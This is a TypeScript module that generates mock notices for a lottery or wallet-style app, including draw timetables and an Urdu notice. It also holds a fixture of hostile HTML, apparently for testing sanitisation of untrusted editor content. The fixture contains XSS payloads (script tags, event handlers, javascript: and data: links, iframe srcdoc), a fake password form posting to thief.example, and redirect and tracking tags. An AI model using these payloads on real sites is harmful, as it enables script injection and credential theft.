import { contentOf } from '../base/content.ts';

export type NoticeType = 'PL' | 'H' | 'PU' | 'PR';

export interface Notice {
  id: string;
  type: NoticeType;
  title: string;
  /** HTML from an operator's editor, never to be trusted. */
  content: string;
  time: number;
}

interface NoticeSeed {
  id: string;
  type: NoticeType;
  hoursAgo: number;
  hours?: number;
  /** Title and text for all languages; otherwise the texts are in the contents. */
  once?: readonly [title: string, content: string];
}

const hour = 3_600_000;

const seeds: readonly NoticeSeed[] = [
  { id: 'n-maintenance', type: 'PL', hoursAgo: 3 },
  { id: 'n-payment', type: 'PL', hoursAgo: 9 },
  { id: 'n-draw', type: 'H', hoursAgo: 30 },
  { id: 'n-phishing', type: 'H', hoursAgo: 52 },
  {
    id: 'n-urdu',
    type: 'PL',
    hoursAgo: 76,
    once: [
      'نیا والٹ Version 2.4 آ گیا ہے، 15 منٹ میں رقم',
      '<p dir="auto">اب <b>Wallet 2.4</b> میں رقم جمع کرانا آسان ہے، اور وقت صرف 15 منٹ۔</p>',
    ],
  },
  { id: 'n-expired', type: 'PL', hoursAgo: 400, hours: 48 },
  { id: 'n-popup', type: 'PU', hoursAgo: 5 },
  { id: 'n-promotion', type: 'PR', hoursAgo: 20 },
];

/** Content that a compromised editor could publish; every part tries to run script or escape its box. */
export const hostileContent = [
  '<p>Harmless words first.</p>',
  '<script>globalThis.hostileRan = "script"</script>',
  '<img src="/missing.png" onerror="globalThis.hostileRan = \'handler\'">',
  '<svg onload="globalThis.hostileRan = \'svg\'"><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<iframe srcdoc="<script>parent.hostileRan = 1</script>"></iframe><iframe src="https://frame.example/"></iframe>',
  '<a href="javascript:globalThis.hostileRan = 1">A link</a> <a href=" java&#9;script:alert(1)">Another</a> <a href="data:text/html,<script>1</script>">A third</a>',
  '<form action="https://thief.example/"><input name="password" placeholder="Your password"><button>Send</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">Over everything</div>',
  '<img src="https://tracker.example/pixel.gif" alt=""><base href="https://thief.example/"><meta http-equiv="refresh" content="0;url=https://thief.example/">',
  '<p id="root" name="cookie">Words after.</p>',
].join('\n');

const hostile: NoticeSeed = {
  id: 'n-hostile',
  type: 'PL',
  hoursAgo: 1,
  once: ['A notice <img src=x onerror=alert(1)> with "teeth"', hostileContent],
};

const archive = (language: string, today: number): Notice[] =>
  contentOf(language).archive.map(([title = '', content = ''], place) => ({
    id: `n-archive-${place}`,
    type: 'PL',
    title,
    content,
    time: today - (110 + place * 40) * hour,
  }));

/** Returns notices of the types shown at `now`, newest first. Times change only once a day. */
export function notices(
  types: readonly string[],
  language: string,
  now: number,
  withHostile: boolean,
): readonly Notice[] {
  const today = Math.floor(now / (24 * hour)) * 24 * hour;
  const kept = archive(language, today).filter(({ type }) => types.includes(type));
  const recent = [...(withHostile ? [hostile] : []), ...seeds]
    .map((seed) => ({ seed, time: today - seed.hoursAgo * hour }))
    .filter(({ seed, time }) => types.includes(seed.type) && (!seed.hours || now < time + seed.hours * hour))
    .sort((a, b) => b.time - a.time)
    .map(({ seed, time }) => {
      const [title = '', content = ''] = seed.once ?? wordsOf(seed.id, language);
      return { id: seed.id, type: seed.type, title, content, time };
    });
  return [...recent, ...kept];
}

function wordsOf(id: string, language: string): readonly string[] {
  const { notices: words, timetable } = contentOf(language);
  const [title = id, content = ''] = words[id.replace(/^n-/, '')] ?? [];
  return [title, id === 'n-draw' ? content + drawTimes(timetable) + content : content];
}

const places = ['Harbour 5D', 'Northgate 4D', 'Lotus Delta 3D', 'Highland 6/45', 'Old Quarter Keno', 'Riverbend 3D'];
const times = ['00:10', '06:10', '12:10', '18:10'];

function drawTimes([place, time, number, betting, open]: readonly string[]): string {
  const heads = [place, time, number, betting].map((word) => `<th>${word}</th>`).join('');
  const rows = places
    .flatMap((name) => times.map((at) => `<td>${name}</td><td>${at}</td>`))
    .map((cells, row) => `<tr>${cells}<td>${row + 1}</td><td>${open}</td></tr>`)
    .join('');
  return `<table><thead><tr>${heads}</tr></thead><tbody>${rows}</tbody></table>`;
}
